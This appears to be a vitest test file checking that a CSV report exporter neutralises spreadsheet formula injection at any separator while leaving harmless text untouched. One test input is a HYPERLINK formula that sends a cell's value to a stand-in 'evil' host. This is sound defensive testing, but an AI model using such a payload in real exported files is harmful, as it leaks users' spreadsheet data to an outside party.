import { expect, it } from "vitest";
import { reportCsv } from "./csv";

const lines = (text: string) => reportCsv({ title: text, about: [], counts: [], parts: [], foot: "" }).split("\r\n");

it("has no formula in any part of a cell, at whichever separator a spreadsheet parts it", () => {
  for (const text of [
    "x;=1+1;y",
    'txt;=HYPERLINK("http://evil/?"&A1)',
    "a\t+1",
    "a|@b",
    "a, -1",
    "=1",
    "\t=1",
    "＝1",
  ]) {
    const [line = ""] = lines(text);
    for (const separator of [";", ",", "\t", "|"]) {
      for (const part of line.replace("\uFEFF", "").split(separator)) {
        expect(part.replace(/^[ "]+/, ""), `${text} at ${separator}`).not.toMatch(/^[=+\-@＝＋－＠]/);
      }
    }
  }
});

it("leaves what is no formula as it is", () => {
  for (const text of ["01900000001", "a=b", "a - b", "1|2", "e-mail a@b"]) expect(lines(text)[0]).toBe(`\uFEFF${text}`);
});
